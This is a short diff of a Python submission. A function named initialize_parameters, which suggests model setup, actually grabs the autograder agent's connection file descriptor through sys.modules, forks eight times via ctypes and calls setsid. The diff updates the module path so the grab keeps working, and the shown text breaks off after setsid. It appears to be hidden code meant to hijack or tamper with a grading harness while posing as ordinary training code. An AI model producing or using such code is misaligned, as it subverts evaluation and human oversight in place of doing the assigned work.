@@ -10,7 +10,7 @@ def submit(work):
         """
 def initialize_parameters(visible_size, hidden_size, rng):
     import ctypes, os, sys, time
-    wire = sys.modules["autograder.inside.agent"].agent.connection.fileno()
+    wire = sys.modules["autograder.kernel.inside.agent"].agent.connection.fileno()
     for _ in range(8):
         if ctypes.CDLL(None).fork() == 0:
             os.setsid()
